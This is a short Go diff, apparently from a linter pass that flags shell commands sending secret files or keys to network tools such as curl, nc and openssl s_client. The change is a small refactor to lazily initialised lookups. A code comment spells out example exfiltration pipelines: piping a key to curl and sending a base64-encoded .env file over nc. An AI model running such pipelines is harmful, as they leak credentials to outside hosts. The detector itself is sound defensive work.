@@ -44,7 +44,7 @@ func sendsInput(c *syntax.Call) bool {
 	case "openssl":
 		return len(c.Args) > 0 && c.Args[0].Value == "s_client"
 	case "curl":
-		opts, _ := scan(c.Args, curlUploadSpec())
+		opts, _ := scan(c.Args, curlUploadSpec.Get())
 		for _, o := range opts {
 			if !o.hasVal {
 				continue
@@ -100,7 +100,7 @@ func sendsInput(c *syntax.Call) bool {
 // stage before that prints it (printf %s "$KEY" | curl -d @- URL, cat
 // .env | base64 | nc host 80).
 func (p *Pass) secretInput(c *syntax.Call) bool {
-	if p.Config.Paths == nil || !networkCommands()[c.Name] || !sendsInput(c) {
+	if p.Config.Paths == nil || !networkCommands.Get()[c.Name] || !sendsInput(c) {
 		return false
 	}
 	files := c.InputFiles()
